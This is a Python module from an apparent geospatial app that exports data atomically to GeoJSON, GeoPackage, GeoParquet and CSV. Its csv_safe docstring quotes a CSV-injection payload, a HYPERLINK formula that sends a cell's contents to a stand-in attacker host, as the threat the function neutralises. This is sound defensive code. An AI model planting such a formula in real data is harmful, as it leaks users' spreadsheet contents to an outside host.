"""Data out: RFC 7946 GeoJSON, GeoPackage, GeoParquet and CSV, written atomically.

Every writer goes through :mod:`geoapp._atomic`: the data is written to a temporary
file beside the target and renamed into place, so a failed export never leaves a
half-written file and never destroys the previous one.

GeoJSON follows RFC 7946: WGS84 longitude/latitude, no ``crs`` member, exterior rings
counter-clockwise, valid geometries, coordinates rounded to 7 decimals (about 1 cm).
Non-finite numbers (``inf`` distances: nothing within reach) are written as ``null``,
since JSON has no infinity. Provenance, including the "synthetic demo data" label,
goes into a top-level ``"geoapp"`` foreign member.
"""

from __future__ import annotations

import contextlib
import json
import logging
import math
import os
import secrets
import time
from collections.abc import Iterator, Mapping
from pathlib import Path
from typing import Any

import geopandas as gpd
import numpy as np
import pandas as pd
import pyogrio
import shapely

from geoapp import _atomic
from geoapp import region as _region
from geoapp.crs import known_valid
from geoapp.errors import InputError, OutputError

log = logging.getLogger(__name__)

WGS84 = "EPSG:4326"
#: Decimal places kept in exported coordinates (7 ≈ 1 cm).
COORD_DECIMALS = 7


def _clean_geometry(
    gdf: gpd.GeoDataFrame, decimals: int | None = COORD_DECIMALS
) -> gpd.GeoDataFrame:
    """Return ``gdf`` in WGS84 with rounded, valid, RFC-oriented geometries.

    ``decimals=None`` keeps every digit (the GeoPackage: full detail). A geometry that
    rounding makes invalid (a ring that touches itself at 1 cm) keeps its unrounded
    coordinates, which are valid; an invalid input is repaired with ``make_valid``.
    """
    if gdf.crs is None:
        raise InputError("Cannot export data without a CRS; set one (e.g. EPSG:4326).")
    out = gdf.to_crs(WGS84) if not gdf.crs.equals(WGS84) else gdf.copy()
    source = out.geometry.to_numpy()
    geom = source
    if decimals is not None:
        geom = shapely.transform(source, lambda c: np.round(c, decimals))
    # geometries known valid (the catchments': geoapp.crs.known_valid) are not checked again
    check = ~shapely.is_missing(geom) & ~known_valid(geom)
    bad = np.zeros(len(geom), dtype=bool)
    bad[check] = ~shapely.is_valid(geom[check])
    if bad.any():
        geom = geom.copy()
        idx = np.flatnonzero(bad)
        repaired = shapely.make_valid(source[idx])
        if decimals is not None:
            # snap-rounding to the grid keeps the geometry valid at ``decimals`` places
            # (plain rounding made these touch themselves)
            repaired = shapely.set_precision(repaired, 10.0**-decimals)
        geom[idx] = repaired
        log.info("%d geometries repaired or snapped to the coordinate grid", len(idx))
    # RFC 7946 has no empty geometry: an empty one is written as null
    geom = np.where(shapely.is_empty(geom), None, geom)
    geom = shapely.orient_polygons(geom, exterior_cw=False)
    out = out.set_geometry(geom, crs=WGS84)
    return out


def _jsonable(value: Any) -> Any:
    if value is None:
        return None
    if isinstance(value, float | np.floating):
        return float(value) if math.isfinite(value) else None
    if isinstance(value, np.integer):
        return int(value)
    if isinstance(value, np.bool_):
        return bool(value)
    if value is pd.NaT:
        return None
    if isinstance(value, pd.Timestamp):
        return value.isoformat()
    if isinstance(value, list | tuple | np.ndarray):
        return [_jsonable(v) for v in value]
    if isinstance(value, dict):
        return {str(k): _jsonable(v) for k, v in value.items()}
    if value is pd.NA or (isinstance(value, float) and math.isnan(value)):
        return None
    return value


#: Significant digits of float attributes in GeoJSON: no 17-digit noise, and sums over a
#: city's points stay within a part in 10^9 of the tables' figures.
ATTR_DIGITS = 9


def round_significant(values: np.ndarray, digits: int) -> np.ndarray:
    """Return ``values`` (floats) rounded to ``digits`` significant digits, vectorised.

    Zeros and non-finite values pass through; each power of ten is rounded at once.
    """
    arr = np.asarray(values, dtype=float).copy()
    ok = np.isfinite(arr) & (arr != 0)
    if not ok.any():
        return arr
    places = digits - 1 - np.floor(np.log10(np.abs(arr[ok]))).astype(int)
    sub = arr[ok]
    for d in np.unique(places):
        m = places == d
        sub[m] = np.round(sub[m], int(d))
    arr[ok] = sub
    return arr


def _property(value: Any) -> Any:
    """:func:`_jsonable` for a feature property: floats at :data:`ATTR_DIGITS` digits."""
    out = _jsonable(value)
    if type(out) is float and out != 0.0:
        return float(round_significant(np.array([out]), ATTR_DIGITS)[0])
    return out


def _json_column(values: pd.Series) -> list[Any]:
    """Return a column's values as :func:`_jsonable` makes them, a column at a time.

    Numpy float, integer and boolean columns convert in one ``tolist`` (floats rounded
    to :data:`ATTR_DIGITS` significant digits, non-finite ones None); other columns value by value,
    strings passing through.
    """
    dtype = values.dtype
    if isinstance(dtype, np.dtype) and dtype.kind in "fiub":
        arr = values.to_numpy()
        if dtype.kind == "f":  # no 17-digit floats: ATTR_DIGITS significant digits
            arr = round_significant(arr, ATTR_DIGITS)
        out = arr.tolist()
        if dtype.kind == "f":
            for i in np.flatnonzero(~np.isfinite(arr)):
                out[i] = None
        return out
    return [v if type(v) is str else _jsonable(v) for v in values.astype(object).to_numpy()]


def geojson_dict(gdf: gpd.GeoDataFrame, meta: Mapping[str, Any] | None = None) -> dict[str, Any]:
    """Return an RFC 7946 FeatureCollection for ``gdf``.

    Parameters
    ----------
    gdf
        Any GeoDataFrame with a CRS.
    meta
        Provenance stored in the top-level ``"geoapp"`` foreign member.
    """
    clean = _clean_geometry(gdf)
    geoms = shapely.to_geojson(clean.geometry.to_numpy())
    props = clean.drop(columns=clean.geometry.name)
    cols = list(props.columns)
    records = props.astype(object).to_numpy()
    features = []
    for row, g in zip(records, geoms, strict=True):
        features.append(
            {
                "type": "Feature",
                "properties": {c: _property(v) for c, v in zip(cols, row, strict=True)},
                "geometry": json.loads(g) if g is not None else None,
            }
        )
    fc: dict[str, Any] = {"type": "FeatureCollection", "features": features}
    if len(clean):
        b = clean.total_bounds
        if np.isfinite(b).all():
            fc["bbox"] = [round(float(x), COORD_DECIMALS) for x in b]
    if meta:
        fc["geoapp"] = _jsonable(dict(meta))
    return fc


def _dumps(obj: Any) -> str:
    """Compact JSON text of ``obj`` as written into GeoJSON (UTF-8, no NaN)."""
    return json.dumps(obj, ensure_ascii=False, separators=(",", ":"), allow_nan=False)


#: The string encoder ``json.dumps(..., ensure_ascii=False)`` itself uses.
_JSON_STR = json.encoder.encode_basestring


def _json_texts(values: list[Any]) -> list[str]:
    """Return the JSON text of each value of a :func:`_json_column` list.

    The same text ``json.dumps`` gives for each value (strings, None, booleans, ints and
    finite floats written here; anything else, and non-finite floats, which raise as
    before, by ``json.dumps``); repeated strings are encoded once.
    """
    seen: dict[str, str] = {}
    out: list[str] = []
    append = out.append
    for v in values:
        kind = type(v)
        if kind is str:
            text = seen.get(v)
            if text is None:
                text = seen[v] = _JSON_STR(v)
            append(text)
        elif v is None:
            append("null")
        elif v is True:
            append("true")
        elif v is False:
            append("false")
        elif kind is int:
            append(int.__repr__(v))
        elif kind is float and math.isfinite(v):
            append(float.__repr__(v))
        else:
            append(_dumps(v))
    return out


def write_geojson(
    gdf: gpd.GeoDataFrame, path: str | os.PathLike[str], meta: Mapping[str, Any] | None = None
) -> Path:
    """Write ``gdf`` as RFC 7946 GeoJSON, atomically; return the path.

    The same document as ``json.dumps(geojson_dict(gdf, meta))``, but each geometry
    goes straight from GEOS's GeoJSON writer into the text (no Python objects per
    coordinate), and each property column is turned into JSON text a column at a time
    (the text ``json.dumps`` gives each row's properties), which matters for
    city-sized layers.
    """
    clean = _clean_geometry(gdf)
    geoms = shapely.to_geojson(clean.geometry.to_numpy())
    props = clean.drop(columns=clean.geometry.name)
    cols = list(props.columns)
    if len(set(cols)) == len(cols):
        # '"name":' as json.dumps writes each key (non-text names too), then the values
        keys = [_dumps({c: None})[1:-5] for c in cols] if len(props) else []
        columns = [
            [key + text for text in _json_texts(_json_column(props.iloc[:, k]))]
            for k, key in enumerate(keys)
        ]
        rows: Iterator[str] = (
            map(",".join, zip(*columns, strict=True)) if cols else iter([""] * len(props))
        )
        texts = ["{" + r + "}" for r in rows]
    else:  # repeated column names: a dict per row keeps json.dumps's answer (the last)
        values = [_json_column(props.iloc[:, k]) for k in range(len(cols))]
        records = zip(*values, strict=True) if cols else iter([()] * len(props))
        texts = [_dumps(dict(zip(cols, row, strict=True))) for row in records]
    parts = ['{"type":"FeatureCollection","features":[']
    parts.append(
        ",".join(
            [
                f'{{"type":"Feature","properties":{p},"geometry":{g if g is not None else "null"}}}'
                for p, g in zip(texts, geoms, strict=True)
            ]
        )
    )
    parts.append("]")
    if len(clean):
        b = clean.total_bounds
        if np.isfinite(b).all():
            parts.append(',"bbox":' + _dumps([round(float(x), COORD_DECIMALS) for x in b]))
    if meta:
        parts.append(',"geoapp":' + _dumps(_jsonable(dict(meta))))
    parts.append("}")
    return _atomic.write_text(path, "".join(parts))


def _gpkg_ready(df: pd.DataFrame) -> pd.DataFrame:
    """Return a copy whose columns GDAL can store (lists/dicts as JSON text)."""
    out = df.copy()
    for col in out.columns:
        if col == getattr(out, "_geometry_column_name", None):
            continue
        s = out[col]
        if s.dtype == object:
            sample = s.dropna()
            if len(sample) and sample.map(lambda v: isinstance(v, list | dict | tuple)).any():
                out[col] = s.map(
                    lambda v: (
                        json.dumps(_jsonable(v), ensure_ascii=False) if v is not None else None
                    )
                )
    return out


#: Column of a GeoPackage layer split by :func:`split_geometry_types`: the row's position
#: in the frame, the same in the points layer and in the layer holding its shape.
GPKG_ROW = _region.GPKG_ROW
#: Suffix of the layer holding each kind of shape of a mixed layer (polygons: footprints).
SHAPE_LAYERS = _region.GPKG_SHAPE_LAYERS


def _family(geoms: np.ndarray) -> np.ndarray:
    """Return each geometry's family: point, line, polygon, collection or "" (None/empty)."""
    tid = shapely.get_type_id(geoms)
    fam = np.full(len(geoms), "", dtype=object)
    fam[np.isin(tid, (0, 4))] = "point"
    fam[np.isin(tid, (1, 2, 5))] = "line"
    fam[np.isin(tid, (3, 6))] = "polygon"
    fam[tid == 7] = "collection"
    fam[shapely.is_missing(geoms) | shapely.is_empty(geoms)] = ""
    return fam


def split_geometry_types(name: str, frame: gpd.GeoDataFrame) -> list[tuple[str, gpd.GeoDataFrame]]:
    """Return ``frame`` as GeoPackage layers of one geometry type each.

    A frame of one kind (points, lines or polygons; single and multi parts together are
    written as multi) stays one layer. A mixed frame (facilities mapped as nodes and as
    ways) becomes ``name`` holding every row at a point (a point on the surface of each
    shape: ``shapely.point_on_surface``) and one layer per kind of shape, every row with
    its attributes: ``name_footprints`` (polygons), ``name_lines``,
    ``name_collections``. Both carry :data:`GPKG_ROW` (the row's position), so a
    reader can give each point its shape back.
    """
    geoms = frame.geometry.to_numpy()
    fam = _family(geoms)
    kinds = sorted(set(fam) - {""})
    if len(kinds) <= 1:
        return [(name, frame)]
    shaped = (fam != "point") & (fam != "")
    points = geoms.copy()
    points[shaped] = shapely.point_on_surface(geoms[shaped])
    base = frame.assign(**{GPKG_ROW: np.arange(len(frame), dtype=np.int64)})
    out = [(name, base.set_geometry(points, crs=frame.crs))]
    for kind in ("polygon", "line", "collection"):
        if kind in kinds:
            out.append((f"{name}_{SHAPE_LAYERS[kind]}", base.loc[fam == kind]))
    log.info("GeoPackage layer %s mixes %s: points and shapes written apart", name, kinds)
    return out


def write_gpkg(
    layers: Mapping[str, gpd.GeoDataFrame | pd.DataFrame],
    path: str | os.PathLike[str],
    meta: Mapping[str, Any] | None = None,
    *,
    lang: str | None = None,
) -> Path:
    """Write several layers into one GeoPackage, atomically.

    Parameters
    ----------
    layers
        Layer name -> frame. GeoDataFrames become spatial layers in EPSG:4326 (empty
        ones are skipped), with full coordinates (GeoJSON rounds to
        :data:`COORD_DECIMALS`), one geometry type per layer (a mixed frame is split:
        :func:`split_geometry_types`); plain DataFrames become attribute tables.
    path
        Target ``.gpkg`` file; replaced only when every layer was written.
    meta
        Provenance written as a one-row ``geoapp_metadata`` attribute table.
    lang
        Language of the QGIS styles' field aliases and layer descriptions (``"en"``,
        ``"zh"``; default ``meta["lang"]``, else English). Every layer gets a default
        style in the ``layer_styles`` table (:func:`geoapp.qgis_styles.add_layer_styles`).
        The file is GeoPackage :data:`GPKG_VERSION`, which Debian stable's GDAL 3.6
        (and the QGIS built on it) reads without a warning.
    """
    path = Path(path)
    try:
        return _write_gpkg(layers, path, meta, lang)
    except (pyogrio.errors.DataSourceError, pyogrio.errors.DataLayerError) as exc:
        # GDAL reports a full disk or a file-size limit as a failed SQL statement.
        text = str(exc).strip().splitlines()[0][:200] if str(exc).strip() else type(exc).__name__
        raise OutputError(
            f"Cannot write the GeoPackage {path}: {text}. If the disk is full, a file-size "
            "limit was reached or the folder is read-only, free some space or choose another "
            "output folder (--out). Nothing was replaced."
        ) from None


#: SQLite settings while a GeoPackage is built in its temporary file: no journal and no
#: fsync per transaction (the file is renamed into place only once complete, so a crash
#: leaves the previous file, and the temporary one is discarded).
#: GeoPackage version written: 1.2, read cleanly by GDAL 3.6 (Debian stable); GDAL 3.7+
#: writes 1.4 by default, which 3.6 reports as "may only be partially supported".
GPKG_VERSION = "1.2"

_GPKG_BUILD_CONFIG = {"OGR_SQLITE_JOURNAL": "OFF", "OGR_SQLITE_SYNCHRONOUS": "OFF"}


@contextlib.contextmanager
def _gdal_config(options: Mapping[str, str]) -> Iterator[None]:
    before = {k: pyogrio.get_gdal_config_option(k) for k in options}
    pyogrio.set_gdal_config_options(dict(options))
    try:
        yield
    finally:
        pyogrio.set_gdal_config_options(before)


def _write_gpkg(
    layers: Mapping[str, gpd.GeoDataFrame | pd.DataFrame],
    path: Path,
    meta: Mapping[str, Any] | None,
    lang: str | None = None,
) -> Path:
    # Each layer is written in one transaction (pyogrio batches the features); the
    # whole file is all-or-nothing through the temporary file and rename.
    with _atomic.atomic_path(path) as tmp, _gdal_config(_GPKG_BUILD_CONFIG):
        written = 0
        parts: list[tuple[str, gpd.GeoDataFrame | pd.DataFrame]] = []
        for name, frame in layers.items():
            if isinstance(frame, gpd.GeoDataFrame):
                if len(frame) == 0:
                    log.info("GeoPackage %s: layer %s is empty, skipped", path, name)
                    continue
                # full detail; one geometry type per layer
                parts.extend(split_geometry_types(name, _clean_geometry(frame, decimals=None)))
            else:
                parts.append((name, frame))
        for name, frame in parts:
            pyogrio.write_dataframe(
                _gpkg_ready(frame),
                tmp,
                layer=name,
                driver="GPKG",
                append=written > 0,
                use_arrow=True,
                dataset_options=None if written else {"VERSION": GPKG_VERSION},
            )
            written += 1
        if meta:
            table = pd.DataFrame(
                {
                    "key": list(meta),
                    "value": [json.dumps(_jsonable(v), ensure_ascii=False) for v in meta.values()],
                }
            )
            pyogrio.write_dataframe(
                table,
                tmp,
                layer="geoapp_metadata",
                driver="GPKG",
                append=written > 0,
                dataset_options=None if written else {"VERSION": GPKG_VERSION},
            )
            written += 1
        if written == 0:
            raise InputError(f"Nothing to write to {path}: every layer is empty.")
        from geoapp.qgis_styles import add_layer_styles  # loads the maps' colours on use

        add_layer_styles(tmp, meta, lang)
    return path


def write_parquet(gdf: gpd.GeoDataFrame | pd.DataFrame, path: str | os.PathLike[str]) -> Path:
    """Write a frame as GeoParquet (EPSG:4326, WKB, zstd), atomically; return the path.

    Full detail: coordinates are not rounded and geometries not simplified (GeoJSON
    is the light copy). Plain DataFrames are written as plain Parquet. Lists and dicts
    are stored as JSON text, as in the GeoPackage.
    """
    with _atomic.atomic_path(path) as tmp:
        if isinstance(gdf, gpd.GeoDataFrame):
            if gdf.crs is None:
                raise InputError(f"Cannot export {Path(path).name} without a CRS; set one.")
            out = gdf.to_crs(WGS84) if not gdf.crs.equals(WGS84) else gdf
            _gpkg_ready(out).to_parquet(tmp, index=False, compression="zstd")
        else:
            _gpkg_ready(gdf).to_parquet(tmp, index=False, compression="zstd")
    return Path(path)


def simplified_for_web(
    gdf: gpd.GeoDataFrame,
    tolerance_m: float,
    *,
    max_vertices: int = 0,
    coverage_by: str | None = None,
    max_coverage_vertices: int = 500_000,
) -> gpd.GeoDataFrame:
    """Return a copy with polygons simplified by ``tolerance_m`` (for GeoJSON and maps).

    Nothing is changed when the frame holds at most ``max_vertices`` vertices. With
    ``coverage_by`` (a column whose groups tile the ground without overlaps, such as
    the ``radius_m`` of nearest-facility catchments) each group is simplified as a
    coverage, so shared borders stay shared; otherwise, and when the frame holds more
    than ``max_coverage_vertices`` vertices (GEOS's coverage simplification takes
    about 18 s CPU for 2.4 million), each geometry on its own (Douglas-Peucker; any it
    would make invalid or empty are simplified preserving their topology instead):
    neighbours' borders may then part by up to ``tolerance_m``.
    Simplified in the local projected CRS.
    """
    from geoapp.crs import local_crs, project_geometries

    geoms = gdf.geometry.to_numpy()
    n_vertices = int(shapely.get_num_coordinates(geoms).sum()) if len(gdf) else 0
    if len(gdf) == 0 or n_vertices <= max_vertices:
        return gdf
    crs = local_crs(gdf)
    # GeoSeries.to_crs's coordinates, each shared border vertex projected once
    local = project_geometries(geoms, gdf.crs, crs)
    if coverage_by is not None and n_vertices <= max_coverage_vertices:
        out = np.empty_like(local)
        for _, idx in gdf.groupby(coverage_by, sort=False).indices.items():
            snapped = shapely.set_precision(local[idx], 1e-3)
            out[idx] = shapely.coverage_simplify(snapped, tolerance_m, simplify_boundary=True)
    else:
        # plain Douglas-Peucker is about 10x faster than the topology-preserving one;
        # the few it breaks (invalid) or wipes out (empty) are simplified again with it
        out = shapely.simplify(local, tolerance_m, preserve_topology=False)
        redo = (~shapely.is_valid(out) | shapely.is_empty(out)) & ~shapely.is_empty(local)
        if redo.any():
            out[redo] = shapely.simplify(local[redo], tolerance_m, preserve_topology=True)
    res = gdf.copy()
    back = project_geometries(out, crs, gdf.crs)
    return res.set_geometry(gpd.GeoSeries(back, crs=gdf.crs, index=gdf.index))


#: First characters that make a spreadsheet read a cell as a formula (OWASP, CSV injection).
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def csv_safe(df: pd.DataFrame) -> pd.DataFrame:
    """Return ``df`` with text cells that a spreadsheet would run as a formula neutralised.

    Names come from OpenStreetMap and user files, which anyone can edit: a district or
    facility called ``=HYPERLINK("http://evil.example/?"&A1,"x")`` is run by Excel and
    LibreOffice when the CSV is opened. Following OWASP's rule, every text cell that
    begins with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return gets a leading
    single quote (``'=HYPERLINK(...)``), which spreadsheets show as text. Numbers are
    left alone (a negative number is not text). GeoJSON and GeoPackage keep the real
    value; only CSV files (and the app's CSV downloads) are written through this.

    Parameters
    ----------
    df : pandas.DataFrame
        Any table; it is not changed.

    Returns
    -------
    pandas.DataFrame
        A copy when a cell was neutralised, else ``df`` itself.
    """
    out = df
    for col in df.columns:
        values = df[col]
        if not (pd.api.types.is_object_dtype(values) or pd.api.types.is_string_dtype(values)):
            continue
        risky = values.map(lambda v: isinstance(v, str) and v.startswith(FORMULA_START))
        if risky.any():
            if out is df:
                out = df.copy()
            fixed = values.copy()
            fixed[risky] = "'" + values[risky].astype(str)
            out[col] = fixed
    return out


def write_csv(df: pd.DataFrame, path: str | os.PathLike[str]) -> Path:
    """Write a table as UTF-8 CSV (with BOM, so Excel reads Chinese), atomically.

    Text cells that a spreadsheet would run as a formula are neutralised
    (:func:`csv_safe`).
    """
    if isinstance(df, gpd.GeoDataFrame):
        df = pd.DataFrame(df.drop(columns=df.geometry.name))
    with _atomic.atomic_path(path) as tmp:
        csv_safe(df).to_csv(tmp, index=False, encoding="utf-8-sig")
    return Path(path)


def write_json(obj: Mapping[str, Any], path: str | os.PathLike[str]) -> Path:
    """Write a JSON document atomically (non-finite numbers become null)."""
    text = json.dumps(_jsonable(dict(obj)), ensure_ascii=False, indent=2, allow_nan=False)
    return _atomic.write_text(path, text)


def read_gpkg_layers(path: str | os.PathLike[str]) -> dict[str, gpd.GeoDataFrame | pd.DataFrame]:
    """Read every layer of a GeoPackage (the inverse of :func:`write_gpkg`).

    The ``layer_styles`` table (QGIS styles, :mod:`geoapp.qgis_styles`) is not data and
    is left out.
    """
    path = Path(path)
    if not path.exists():
        raise InputError(f"{path}: file not found")
    try:
        names = [row[0] for row in pyogrio.list_layers(path)]
    except Exception as exc:  # pyogrio raises DataSourceError subclasses
        raise InputError(f"{path}: not a readable GeoPackage ({exc})") from None
    out: dict[str, gpd.GeoDataFrame | pd.DataFrame] = {}
    for name in names:
        if name == "layer_styles":
            continue
        df = pyogrio.read_dataframe(path, layer=name)
        out[name] = df
    return out


# ------------------------------------------------------------------ result bundles

#: File of a result bundle that describes it (and marks the folder as a bundle).
BUNDLE_METADATA = "metadata.json"


def new_run_id() -> str:
    """Return a new run id: UTC time and 8 random hex digits, e.g. ``20261201T132700Z-1a2b3c4d``."""
    return time.strftime("%Y%m%dT%H%M%SZ", time.gmtime()) + "-" + secrets.token_hex(4)


def read_bundle_metadata(folder: str | os.PathLike[str]) -> dict[str, Any] | None:
    """Return the metadata of the geoapp bundle in ``folder``, or None if it is not one.

    A bundle is a folder whose ``metadata.json`` is a JSON object written by geoapp: it
    has a ``files`` list and a ``run_id`` (bundles from before run ids carry
    ``versions.geoapp`` instead).
    """
    path = Path(folder) / BUNDLE_METADATA
    try:
        meta = json.loads(path.read_text(encoding="utf-8"))
    except (OSError, UnicodeDecodeError, ValueError):
        return None
    if not isinstance(meta, dict) or not isinstance(meta.get("files"), list):
        return None
    versions = meta.get("versions")
    if "run_id" not in meta and not (isinstance(versions, dict) and "geoapp" in versions):
        return None
    return meta


def bundle_folder(
    folder: str | os.PathLike[str], run_id: str
) -> contextlib.AbstractContextManager[Path]:
    """Return a context manager yielding a temporary folder that replaces ``folder`` at exit.

    The new folder is swapped in as a whole when the block succeeds (atomically with
    Linux ``renameat2`` exchange, else two renames completed after a crash), and
    removed when it raises; the previous ``folder`` is never left half-replaced.
    Leftovers of interrupted runs beside ``folder`` are cleaned up first. Call
    :func:`check_bundle_target` before: this replaces whatever folder is there.
    """
    return _atomic.atomic_dir(folder, run_id)


def check_bundle_target(folder: str | os.PathLike[str]) -> None:
    """Raise unless a result bundle may be written to ``folder``.

    Allowed: a path that does not exist yet, an empty folder, or a geoapp bundle that
    holds only the files its ``metadata.json`` lists (it is replaced as a whole, so
    nothing else may be in it).

    First finishes or undoes what an interrupted earlier run left beside ``folder``
    (a previous bundle set aside by an interrupted swap is put back; temporary folders
    of dead runs are removed), so the check sees the folder as the user left it.

    Raises
    ------
    OutputError
        ``folder`` is a file, a folder that is not a geoapp bundle, or a bundle with
        other files in it, or cannot be written; the message names them and says what
        to do. No user file is touched.
    """
    folder = Path(folder)
    if folder.parent.is_dir():
        try:
            _atomic.recover_dir(folder)
        except OSError as exc:
            log.warning("%s: could not clean up after an interrupted run: %s", folder, exc)
    if not folder.exists():
        if folder.is_symlink():
            raise OutputError(
                f"Output folder {folder} (--out) is a broken symbolic link; fix or remove it."
            )
        _atomic.probe_writable(folder)
        return
    if not folder.is_dir():
        raise OutputError(
            f"Output folder {folder} (--out) is an existing file, not a folder; choose a folder path "
            "(it is created), e.g. --out out/"
        )
    try:
        entries = sorted(p.name for p in folder.iterdir())
    except OSError as exc:
        raise OutputError(
            f"Output folder {folder} (--out): cannot read the folder ({exc.strerror}); choose another folder."
        ) from None
    if not entries:
        _atomic.probe_writable(folder)
        return
    meta = read_bundle_metadata(folder)
    if meta is None:
        shown = ", ".join(entries[:5]) + (
            f" and {len(entries) - 5} more" if len(entries) > 5 else ""
        )
        raise OutputError(
            f"Output folder {folder} (--out) is a folder with other files in it ({shown}) and not a geoapp "
            f"bundle (no geoapp {BUNDLE_METADATA}). A bundle replaces its folder as a whole, "
            "so choose a new or empty folder, e.g. --out out/elderly_care/"
        )
    listed = {str(f) for f in meta["files"]}
    extra = [e for e in entries if e not in listed]
    if extra:
        shown = ", ".join(extra[:5]) + (f" and {len(extra) - 5} more" if len(extra) > 5 else "")
        raise OutputError(
            f"Output folder {folder} (--out) is a geoapp bundle but also holds files that are not part of it "
            f"({shown}). A new bundle replaces the folder as a whole; move those files out or "
            "choose another folder."
        )
    _atomic.probe_writable(folder)


def csv_ready(df: pd.DataFrame) -> pd.DataFrame:
    """Round a result table for CSV: shares and ratios 4 decimals, counts integers.

    summary.csv and zones.csv are written through it; the report shows the same rounded
    figures, and ``geoapp verify`` rounds a re-run the same way before comparing.
    """
    out = pd.DataFrame(df).copy()
    for col in out.columns:
        if not pd.api.types.is_numeric_dtype(out[col]) or pd.api.types.is_bool_dtype(out[col]):
            continue
        name = str(col)
        if name.startswith(("share_", "ratio_", "gini_", "target_share")):
            out[col] = out[col].round(4)
        elif name in ("pop", "pop_60plus", "n_facilities", "facilities", "rank") or name.startswith(
            ("covered_pop", "uncovered_pop", "uncovered_demand", "covered_demand", "n_")
        ):
            vals = out[col].astype(float)
            finite = np.isfinite(vals)
            out[col] = vals.round(0).where(finite).astype("Int64")
        elif name.endswith("_km2"):
            out[col] = out[col].round(3)
        elif name.endswith("_m") or name.endswith("_per_10k"):
            out[col] = out[col].round(2)
    return out
